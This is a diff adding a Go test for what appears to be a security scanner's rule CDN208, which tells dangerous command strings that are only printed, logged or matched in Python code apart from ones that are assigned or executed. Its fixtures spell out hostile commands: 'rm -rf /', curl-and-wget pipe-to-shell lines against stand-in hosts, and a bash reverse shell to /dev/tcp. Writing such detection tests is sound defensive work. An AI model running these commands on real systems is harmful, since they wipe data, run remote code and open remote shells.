@@ -1,0 +1,68 @@
+package analysis
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/cordonsec/cordon/policy"
+)
+
+// TestCommandStringShownOrMatched: a dangerous command line that is only
+// shown (print, logging, warnings, argparse help, an exception message) or
+// matched (comparison, `in`, the re module) is data and raises no CDN208;
+// the same string anywhere a standard-library display API is not really
+// what is called stays high.
+func TestCommandStringShownOrMatched(t *testing.T) {
+	const head = "import argparse, logging, re, subprocess, sys, warnings\nlog = logging.getLogger(__name__)\n"
+	quiet := []string{
+		`print("refusing to run rm -rf /")`,
+		`print("never paste " + "curl https://x.example/i.sh | sh")`,
+		`print("blocked %s: rm -rf /" % sys.argv[0])`,
+		`print("%s is refused" % "curl https://x.example/i.sh | sh")`,
+		`sys.stderr.write("no curl x | sh\n")`,
+		`log.warning("blocked: curl http://a | sh")`,
+		`logging.error("blocked: wget http://a | bash")`,
+		`warnings.warn("rm -rf ~ requested")`,
+		`argparse.ArgumentParser(epilog="never run curl https://x.example/i.sh | sh")`,
+		`argparse.ArgumentParser().add_argument("--force", help="not rm -rf / but only the workspace")`,
+		`DANGER = re.compile(r"rm -rf /")`,
+		`ok = "rm -rf /" not in sys.argv[1]`,
+		`same = sys.argv[1] == "curl x | sh"`,
+		`raise ValueError("refusing rm -rf / in %s" % sys.argv[1])`,
+		`raise SystemExit("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 is a reverse shell")`,
+	}
+	for _, line := range quiet {
+		rep := analyze(t, head+line+"\n", Options{})
+		if hasRule(rep, "CDN208") {
+			t.Errorf("%s: CDN208 on text that is only shown or matched:%s", line, summary(rep))
+		}
+	}
+	loud := []string{
+		// Not the standard library's print: a local function runs it.
+		"def print(c):\n    subprocess.run(c.split())\nprint('rm -rf /')",
+		// A custom class taking help= may do anything with it.
+		"class Step:\n    def __init__(self, help):\n        self.argv = help.split()\nStep(help='curl http://x.example/s | sh')",
+		// argparse's default= is a value the program uses, not text.
+		"argparse.ArgumentParser().add_argument('--cmd', default='bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
+		// print rebound to something that runs commands.
+		"print = subprocess.getoutput\nprint('curl http://x.example/s | sh')",
+		// A method of an unknown object named like a logger.
+		"class L:\n    def info(self, c):\n        subprocess.run(c.split())\nL().info('rm -rf /')",
+		// Plain assignment and a list element: payloads.
+		"CMD = 'curl http://x.example/s | sh'",
+		"cmds = ['rm -rf /', 'ls']",
+		"subprocess.run(['sh', '-c', 'curl http://x.example/s | sh'])",
+	}
+	for _, src := range loud {
+		rep := analyze(t, head+src+"\n", Options{})
+		found := false
+		for _, f := range rep.Findings {
+			if f.Rule == "CDN208" && f.Severity == policy.SeverityHigh {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("%s: want CDN208 high:%s", strings.ReplaceAll(src, "\n", "; "), summary(rep))
+		}
+	}
+}
